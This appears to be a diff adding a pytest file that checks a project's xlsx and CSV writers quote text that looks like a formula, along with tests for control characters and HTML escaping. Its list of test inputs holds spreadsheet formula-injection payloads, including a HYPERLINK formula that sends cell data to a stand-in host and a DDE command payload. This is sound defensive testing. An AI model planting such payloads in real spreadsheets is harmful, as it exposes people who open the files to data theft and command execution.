@@ -1,0 +1,132 @@
+"""Hostile text in the outputs: no formula in any xlsx or CSV the project writes, no crash on control characters,
+free text escaped for Markdown and HTML, and long lists kept within the page budget.
+
+Attacks come from issue 21 ("Formulas in the outputs", "Late or unclear failures", "A legitimate territory refused").
+"""
+
+from __future__ import annotations
+
+import csv
+import io
+
+import pandas as pd
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+from openpyxl import Workbook, load_workbook
+
+from helpers import safe_write
+from helpers.safe_write import FORMULA_PREFIXES, formula_cells
+
+ATTACKS = ['=HYPERLINK("http://evil.example/?"&A1,"clic")', "=WEBSERVICE(\"http://x\")", "+1+1", "-2+3",
+           "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "=cmd|'/c calc'!A1", "\uff1d1+1"]
+
+
+def _assert_no_formula_cell(path) -> None:
+    """Reopen with openpyxl: no formula cell, and every text starting like a formula is quoted (quotePrefix)."""
+    wb = load_workbook(path)
+    for ws in wb.worksheets:
+        for row in ws.iter_rows():
+            for cell in row:
+                assert cell.data_type != "f", f"{ws.title}!{cell.coordinate} is a formula: {cell.value!r}"
+                if isinstance(cell.value, str) and cell.value.startswith(FORMULA_PREFIXES):
+                    assert cell.quotePrefix, f"{ws.title}!{cell.coordinate} unquoted: {cell.value!r}"
+
+
+def test_the_checker_sees_a_formula_written_the_naive_way(tmp_path):
+    """openpyxl alone stores '=…' as a live formula: the check used by every test below does catch it."""
+    wb = Workbook()
+    wb.active.append(["=1+1"])
+    wb.save(tmp_path / "naive.xlsx")
+    assert formula_cells(tmp_path / "naive.xlsx") == ["Sheet!A1"]
+
+
+@pytest.mark.parametrize("text", ATTACKS)
+def test_xlsx_text_starting_like_a_formula_stays_text(tmp_path, text):
+    df = pd.DataFrame({"line_id": [text, "ok"], "comment": ["x", text], "quantity": [1, 2]})
+    path = safe_write.write_xlsx({"inventaire": (df, text)}, tmp_path / "t.xlsx")
+    _assert_no_formula_cell(path)
+    ws = load_workbook(path)["inventaire"]
+    # the value is kept as typed (shown as text), header row 2, data from row 3; XML reads a bare CR back as LF
+    typed = text.replace("\r", "\n")
+    assert ws["A1"].value == typed and ws["A3"].value == typed and ws["B4"].value == typed
+
+
+def test_tables_xlsx_writer_quotes_a_label_starting_with_equals(tmp_path):
+    """The default study's ``carbon_reconciliation_bridge`` has a label starting with '=' (Excel called the file
+    damaged): ``sections.write_tables_xlsx`` writes it as text."""
+    from helpers.sections import write_tables_xlsx
+
+    bridge = pd.DataFrame({"step": ["inventaire", "= total du bilan"], "tco2e": [10.0, 10.0]})
+    path = write_tables_xlsx({"carbon_reconciliation_bridge": (bridge, "note")}, tmp_path / "tables.xlsx")
+    assert formula_cells(path) == []
+    assert load_workbook(path)["carbon_reconciliation_bridge"]["A4"].value == "= total du bilan"
+
+
+@pytest.mark.parametrize("char", ["\x00", "\x07", "\x0b", "\x1b", "\x1f"])
+def test_xlsx_control_characters_never_crash(tmp_path, char):
+    """openpyxl raises IllegalCharacterError on C0 controls: they become U+FFFD, in cells, headers and sheet names."""
+    df = pd.DataFrame({f"col{char}": [f"a{char}b"]})
+    path = safe_write.write_xlsx({f"s{char}": (df, f"note{char}")}, tmp_path / "c.xlsx")
+    ws = load_workbook(path).worksheets[0]
+    assert ws["A3"].value == "a\ufffdb" and ws["A2"].value == "col\ufffd"
+
+
+def test_xlsx_is_byte_identical_across_writes(tmp_path):
+    df = pd.DataFrame({"a": ["=x", "y"], "b": [1.5, float("nan")]})
+    one = safe_write.write_xlsx({"t": (df, "n")}, tmp_path / "1.xlsx").read_bytes()
+    two = safe_write.write_xlsx({"t": (df, "n")}, tmp_path / "2.xlsx").read_bytes()
+    assert one == two
+
+
+@settings(max_examples=300, deadline=None)
+@given(st.text(max_size=20))
+def test_csv_codec_is_reversible_and_never_starts_like_a_formula(text):
+    encoded = safe_write.encode_text(text)
+    assert safe_write.decode_text(encoded) == text
+    assert not encoded.startswith(FORMULA_PREFIXES)
+
+
+@pytest.mark.parametrize("text", ATTACKS)
+def test_csv_cells_are_quoted_and_read_back_exactly(tmp_path, text):
+    """A processed table: the CSV on disk has no formula cell, and ``read_csv`` gives back the ids as written (the
+    join on ``line_id`` between two tables still matches)."""
+    df = pd.DataFrame({"line_id": [text, "'deja-quote", "b"], "kgco2e": [1.5, 2.0, 3.0]})
+    path = safe_write.write_csv(df, tmp_path / "t.csv")
+    for row in csv.reader(io.StringIO(path.read_text(encoding="utf-8"))):
+        for cell in row:
+            assert not cell.startswith(FORMULA_PREFIXES), cell
+    back = safe_write.read_csv(path)
+    typed = text.replace("\r", "\n")  # a bare CR would be a row break for a spreadsheet: written as LF
+    assert back["line_id"].tolist() == [typed, "'deja-quote", "b"]
+    assert back.merge(df.assign(line_id=df["line_id"].str.replace("\r", "\n")), on="line_id").shape[0] == 3
+
+
+def test_context_tables_round_trip_through_the_codec(tmp_path):
+    """``Context.write_table`` then ``read_table`` (what notebooks 02–05 do) returns the same values and dtypes, even
+    for a text column of negative-looking ids, which pandas would have read as numbers anyway."""
+    from helpers.context import Context
+
+    ctx = Context(slug="x", territory=None, raw=tmp_path, reference=tmp_path, processed=tmp_path)
+    df = pd.DataFrame({"id": ["=a", "-b", "@c"], "n": [1, 2, 3], "neg": ["-1", "-2", "+3"]})
+    ctx.write_table("t", df)
+    back = ctx.read_table("t")
+    assert back["id"].tolist() == ["=a", "-b", "@c"]
+    assert back["n"].tolist() == [1, 2, 3]
+    assert back["neg"].tolist() == [-1, -2, 3]  # as pd.read_csv of the raw values would give
+
+
+def test_batch_comparison_csv_quotes_a_hostile_territory_name(tmp_path, monkeypatch):
+    from helpers import batch, paths
+
+    monkeypatch.setattr(paths, "OUTPUTS_DIR", tmp_path)
+    monkeypatch.setattr(paths, "PROJECT_ROOT", tmp_path)
+    row = batch._row("atk", "summary", "failed", 0.0, error="=1+1", name='=HYPERLINK("http://x","clic")')
+    table = pd.DataFrame([row], columns=batch.COLUMNS + ["timings"])
+    csv_path, html_path = batch.write_comparison_files(table, 1, 200, "summary")
+    for row in csv.reader(io.StringIO(csv_path.read_text(encoding="utf-8"))):
+        for cell in row:
+            assert not cell.startswith(FORMULA_PREFIXES), cell
+    assert "'=HYPERLINK" in csv_path.read_text(encoding="utf-8")
+    page = html_path.read_text(encoding="utf-8")
+    assert "<a href=\"http" not in page
